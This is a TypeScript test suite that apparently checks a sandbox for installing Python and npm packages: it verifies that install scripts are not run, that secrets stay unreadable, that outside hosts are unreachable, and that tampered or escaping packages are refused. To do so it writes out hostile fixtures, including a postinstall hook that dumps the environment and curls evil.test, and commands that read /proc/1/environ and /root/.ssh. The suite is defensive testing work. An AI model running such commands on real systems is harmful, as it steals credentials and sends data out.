import { existsSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import { join } from "node:path";
import { afterAll, beforeAll, beforeEach, expect, test, vi } from "vitest";
import { EnvironmentPlace, outcomes } from "../environment-place.ts";
import type { MadePackage } from "../package-index.ts";
import { SECRET } from "./battlefield.ts";

vi.setConfig({ testTimeout: 180_000 });

const FILE = ".miracle/environment.yaml";
const wheel = (name: string, files: Record<string, string>): MadePackage => ({
  language: "python",
  name,
  version: "1.0",
  files,
});
const RUNNER_FILES = { "pytest/__init__.py": "", "_pytest/main.py": "HONEST = True\n" };
const PACKAGES: MadePackage[] = [
  wheel("tiny", { "tiny.py": "X = 1\n" }),
  // The project's own pytest, as small as can be.
  wheel("pytest", RUNNER_FILES),
  wheel("overwrites", { "overwrites.py": "", "_pytest/main.py": "HONEST = False\n" }),
  wheel("lends", { "lends.py": "", "_pytest/__init__.py": "" }),
  wheel("outside", { "../../../../outside.py": "" }),
  wheel("elsewhere", { "elsewhere-1.0.data/data/pyvenv.cfg": "home = /root/bin\n" }),
  { ...wheel("builds", { "setup.py": "open('/workspace/.venv/ran', 'w').write('x')\n" }), source: true },
  {
    language: "javascript",
    name: "scripted",
    version: "1.0.0",
    files: { "index.js": "module.exports = 1;\n" },
    scripts: { postinstall: "env > /workspace/node_modules/stolen; curl http://evil.test/" },
  },
];

let place: EnvironmentPlace;
let evil: Server;
let reached = 0;
beforeAll(async () => {
  vi.stubEnv("MIRACLE_TEST_KEY", SECRET);
  place = await EnvironmentPlace.open(PACKAGES);
  evil = createServer((_, answer) => {
    reached += 1;
    answer.end("welcome");
  });
  await new Promise<void>((resolve) => evil.listen(0, "127.0.0.1", resolve));
});
afterAll(async () => {
  evil.close();
  await place[Symbol.asyncDispose]();
});
beforeEach(() => place.clear());

const evilAddress = (): string => {
  const address = evil.address();
  return `http://127.0.0.1:${typeof address === "object" ? address?.port : 0}`;
};
const python = (files: Record<string, string>) => place.house("python", files);
const javascript = (manifest: object, files: Record<string, string> = {}) =>
  place.house("javascript", {
    "package.json": JSON.stringify({ name: "own", version: "1.0.0", ...manifest }),
    ...files,
  });

test("an install script of npm's is not run, and its package is named", async () => {
  const housing = await javascript({ dependencies: { scripted: "*" } });
  if (housing.kind !== "built") throw new Error(JSON.stringify(housing));
  expect(housing.record.scripted).toEqual(["scripted"]);
  expect(existsSync(join(housing.directory, "node_modules/scripted/index.js"))).toBe(true);
  expect(existsSync(join(housing.directory, "node_modules/stolen"))).toBe(false);
});

test("a package whose code would have to run to install it cannot be had", async () => {
  expect(await python({ "requirements.txt": "builds\n" })).toMatchObject({
    kind: "missing",
    problem: expect.stringContaining("builds cannot be had as a wheel"),
  });
});

test("commands of the project find no secret and reach nobody but the registry", async () => {
  const secret = join(place.root, "secret.txt");
  writeFileSync(secret, SECRET);
  const lines = [
    "env > .venv/found",
    `cat ${secret} /proc/1/environ /root/.ssh/* >> .venv/found 2>&1 || true`,
    `{ curl -sS ${evilAddress()} || true; curl -sS --noproxy '*' ${evilAddress()} || true; } >> .venv/found 2>&1`,
    "ls -R / > .venv/seen 2> /dev/null || true",
  ];
  const housing = await python({ [FILE]: `commands: ${JSON.stringify(lines)}\n` });
  if (housing.kind !== "built") throw new Error(JSON.stringify(housing));
  const found = readFileSync(join(housing.directory, ".venv/found"), "utf8");
  expect(found).toContain("PATH=");
  expect(found).not.toContain(SECRET);
  expect(found).not.toContain("welcome");
  expect(readFileSync(join(housing.directory, ".venv/seen"), "utf8")).not.toContain("secret.txt");
  expect(reached).toBe(0);
});

test.each([
  ["brings a module of the lent runner", "lends\n", "a module named _pytest"],
  [
    "writes over a file of the runner that the manifest names",
    "pytest\noverwrites\n",
    "a module named _pytest/main.py",
  ],
  ["names another interpreter", "elsewhere\n", "replaced pyvenv.cfg: it names /root/bin"],
  ["has paths outside of its place", "outside\n", "outside has a file outside of its place"],
])("a package that %s is refused", async (_what, requirements, says) => {
  expect(await python({ "requirements.txt": requirements })).toMatchObject({
    kind: "missing",
    problem: expect.stringContaining(says),
  });
  expect(place.directories.list()).toEqual([]);
  expect(readdirSync(place.root)).not.toContain("outside.py");
});

test("manifests and lockfiles that name another place are not followed there", async () => {
  const evilHost = evilAddress();
  const pip = await python({ "requirements.txt": `--index-url ${evilHost}/simple\ntiny\nx @ ${evilHost}/x.whl\n` });
  expect(pip).toMatchObject({ kind: "built", record: { left: { length: 2 } } });
  const integrity = place.index.integrity("scripted", "1.0.0");
  const resolved = `${evilHost}/scripted/-/scripted-1.0.0.tgz`;
  const manifest = { dependencies: { scripted: "1.0.0" } };
  const lock = {
    lockfileVersion: 3,
    packages: {
      "": { name: "own", version: "1.0.0", ...manifest },
      "node_modules/scripted": { version: "1.0.0", resolved, integrity },
    },
  };
  const files = { "package-lock.json": JSON.stringify(lock), ".npmrc": `registry=${evilHost}/\n` };
  expect(await javascript(manifest, files)).toMatchObject({ kind: "built" });
  const direct = await javascript({ dependencies: { scripted: `${evilHost}/x.tgz` } });
  expect(direct).toMatchObject({ kind: "missing" });
  expect(reached).toBe(0);
});

test("a lockfile with another hash than the package has is refused, and the package named", async () => {
  const manifest = { dependencies: { scripted: "1.0.0" } };
  const integrity = `sha512-${"A".repeat(86)}==`;
  const lock = {
    lockfileVersion: 3,
    packages: {
      "": { name: "own", version: "1.0.0", ...manifest },
      "node_modules/scripted": {
        version: "1.0.0",
        resolved: "https://registry.test/scripted/-/scripted-1.0.0.tgz",
        integrity,
      },
    },
  };
  expect(await javascript(manifest, { "package-lock.json": JSON.stringify(lock) })).toMatchObject({
    kind: "missing",
    problem: expect.stringContaining("scripted does not have the hash of the lockfile"),
  });
  expect(await python({ "requirements.txt": `tiny==1.0 --hash=sha256:${"0".repeat(64)}\n` })).toMatchObject({
    kind: "missing",
    problem: expect.stringContaining("tiny==1.0 does not have the hash of the manifest"),
  });
  expect(place.directories.list()).toEqual([]);
});

test("a package that was exchanged in the cache is refused", async () => {
  expect(await python({ "requirements.txt": "tiny\n" })).toMatchObject({ kind: "built" });
  const cache = join(place.root, "packages");
  const kept = readdirSync(cache, { recursive: true, encoding: "utf8" }).map((name) => join(cache, name));
  const archives = kept.filter((path) => !path.endsWith(".part") && isArchive(path));
  expect(archives).not.toEqual([]);
  for (const path of archives) {
    const body = readFileSync(path);
    body.writeUInt8(body.readUInt8(body.length - 30) ^ 1, body.length - 30);
    writeFileSync(path, body);
  }
  place.clear();
  expect(await python({ "requirements.txt": "tiny\n" })).toMatchObject({
    kind: "missing",
    problem: expect.stringContaining("does not have the hash"),
  });
  rmSync(cache, { recursive: true });
});

function isArchive(path: string): boolean {
  try {
    return /^\{"url":"[^"]*\.whl"/.test(readFileSync(path, "latin1"));
  } catch {
    return false;
  }
}

test("what runs in an environment cannot change it for the next", async () => {
  const housing = await python({ "requirements.txt": "tiny\n" });
  const spoil = [
    "import pathlib, tiny, pytest",
    "def test_spoil():",
    "    for name in (tiny.__file__, '.venv/bin/pytest', '.venv/pyvenv.cfg', '.venv/new'):",
    "        with pytest.raises(OSError): pathlib.Path(name).write_text('X = 2')",
  ];
  const report = await place.tests("python", housing, { "test_spoil.py": spoil.join("\n") });
  expect(outcomes(report), report.output).toEqual(["passed"]);
});
